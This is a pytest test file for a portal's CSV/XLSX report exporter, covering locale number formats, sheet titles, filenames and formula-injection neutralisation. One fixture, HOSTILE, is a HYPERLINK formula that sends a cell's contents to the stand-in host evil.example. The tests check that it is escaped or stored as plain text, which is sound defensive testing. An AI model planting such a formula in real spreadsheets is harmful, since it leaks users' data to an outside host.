"""portal.reports.export: CSV and XLSX in the user's number format, formula injection neutralised."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import openpyxl
import pytest

from portal.reports.export import FORMATS, Column, Sheet, filename, sheet_title, to_csv, to_xlsx

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
ROMANIAN = "Ştefan & Fiii SRL"


def _sheet(note: str = "Amounts in each invoice's own currency.") -> Sheet:
    return Sheet(
        title="Aging: clients [RON/JPY] * overdue? and a very long title",
        columns=[
            Column("Client", "text"),
            Column("Invoices", "int"),
            Column("Currency", "text"),
            Column("Open", "money", currency_column=2),
            Column("Open (JPY)", "money", currency_column=5),
            Column("JPY", "text"),
            Column("Paid %", "percent"),
            Column("Due", "date"),
        ],
        rows=[
            [ROMANIAN, 3, "RON", 123456, 500, "JPY", 12.5, dt.date(2026, 12, 3)],
            [HOSTILE, 1234567, "RON", -5, None, None, None, None],
            ["-1+1", None, "EUR", None, 0, "JPY", 100, dt.date(2027, 1, 31)],
        ],
        note=note,
    )


def _rows(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8")), delimiter=delimiter))


def test_csv_in_romanian_uses_semicolons_and_decimal_commas():
    data = to_csv(_sheet(), "ro")
    rows = _rows(data, ";")
    assert rows[0] == ["Client", "Invoices", "Currency", "Open", "Open (JPY)", "JPY", "Paid %", "Due"]
    assert rows[1] == [ROMANIAN, "3", "RON", "1234,56", "500", "JPY", "12,5", "2026-12-03"]
    assert rows[2] == ["'" + HOSTILE, "1234567", "RON", "-0,05", "", "", "", ""]
    assert rows[3] == ["'-1+1", "", "EUR", "", "0", "JPY", "100,0", "2027-01-31"]
    assert len(rows) == 4, "the note is not in the CSV"
    assert b"Amounts in each" not in data


def test_csv_in_english_uses_commas_and_decimal_points():
    rows = _rows(to_csv(_sheet(), "en"), ",")
    assert rows[1] == [ROMANIAN, "3", "RON", "1234.56", "500", "JPY", "12.5", "2026-12-03"]
    assert rows[2][:4] == ["'" + HOSTILE, "1234567", "RON", "-0.05"]


@pytest.mark.parametrize("language", ["uk", "bg", "hu"])
def test_csv_in_the_other_comma_languages(language):
    assert _rows(to_csv(_sheet(), language), ";")[1][3] == "1234,56"


def _workbook(language: str = "ro", note: str = "Amounts in each invoice's own currency."):
    return openpyxl.load_workbook(io.BytesIO(to_xlsx(_sheet(note), language)))


def test_xlsx_carries_numbers_dates_and_formats():
    wb = _workbook()
    ws = wb.active
    assert ws.title == "Aging clients RON JPY overdue a"
    assert len(ws.title) <= 31
    assert [c.value for c in ws[1]] == ["Client", "Invoices", "Currency", "Open", "Open (JPY)", "JPY", "Paid %", "Due"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"

    assert ws["A2"].value == ROMANIAN
    assert ws["B2"].value == 3 and ws["B2"].number_format == "#,##0"
    assert ws["D2"].data_type == "n" and Decimal(str(ws["D2"].value)) == Decimal("1234.56")
    assert ws["D2"].number_format == "#,##0.00"
    assert ws["D3"].data_type == "n" and Decimal(str(ws["D3"].value)) == Decimal("-0.05")
    assert ws["E2"].value == 500 and ws["E2"].number_format == "#,##0"
    assert Decimal(str(ws["G2"].value)) == Decimal("0.125") and ws["G2"].number_format == "0.0%"
    assert ws["G4"].value == 1
    assert ws["H2"].is_date and ws["H2"].value.date() == dt.date(2026, 12, 3)
    assert ws["H2"].number_format == "yyyy-mm-dd"
    assert ws["B4"].value is None and ws["E3"].value is None and ws["H3"].value is None

    assert all(ws.column_dimensions[letter].width <= 60 for letter in "ABCDEFGH")
    assert ws.column_dimensions["A"].width >= len(HOSTILE)
    assert wb.properties.title == _sheet().title
    assert wb.properties.creator == "Portal"
    assert wb.properties.language == "ro-RO"


def test_xlsx_writes_hostile_text_as_text_not_a_formula():
    ws = _workbook().active
    assert ws["A3"].value == HOSTILE
    assert ws["A3"].data_type == "s"
    assert ws["A4"].value == "-1+1" and ws["A4"].data_type == "s"


def test_xlsx_puts_the_note_in_italics_after_the_table():
    ws = _workbook().active
    assert ws["A5"].value is None
    assert ws["A6"].value == "Amounts in each invoice's own currency."
    assert ws["A6"].font.i
    assert ws.max_row == 6
    assert _workbook(note="").active.max_row == 4


def test_sheet_titles_excel_accepts():
    assert sheet_title("a/b\\c?d*e:f[g]h") == "a b c d e f g h"
    assert sheet_title("'quoted'") == "quoted"
    assert sheet_title("[]") == "Report"
    assert len(sheet_title("x" * 40)) == 31


def test_bad_values_are_refused_not_guessed():
    with pytest.raises(ValueError, match="currency_column"):
        Column("Open", "money")
    with pytest.raises(ValueError, match="kind"):
        Column("Open", "currency")
    with pytest.raises(ValueError, match="outside the row"):
        Sheet("s", [Column("Open", "money", currency_column=1)], [[1]])
    with pytest.raises(ValueError, match="cells for"):
        Sheet("s", [Column("A", "int")], [[1, 2]])
    with pytest.raises(TypeError, match="minor units"):
        to_csv(Sheet("s", [Column("C", "text"), Column("Open", "money", currency_column=0)], [["RON", 12.34]]), "en")
    with pytest.raises(ValueError, match="no currency"):
        to_csv(Sheet("s", [Column("C", "text"), Column("Open", "money", currency_column=0)], [[None, 1234]]), "en")
    with pytest.raises(TypeError, match=r"datetime\.date"):
        to_xlsx(Sheet("s", [Column("Due", "date")], [[dt.datetime(2026, 12, 3, 10, 0)]]), "en")


def test_filename_and_formats():
    day = dt.date(2026, 12, 3)
    assert filename("aging", day, "xlsx") == "aging-2026-12-03.xlsx"
    assert filename("Ştefan & Fiii: Aging Report", day, "csv") == "stefan-fiii-aging-report-2026-12-03.csv"
    assert filename("Звіт", day, "csv") == "report-2026-12-03.csv"
    with pytest.raises(ValueError):
        filename("aging", day, "pdf")
    assert FORMATS["csv"] == ("text/csv; charset=utf-8", to_csv)
    assert FORMATS["xlsx"][0] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert FORMATS["xlsx"][1] is to_xlsx
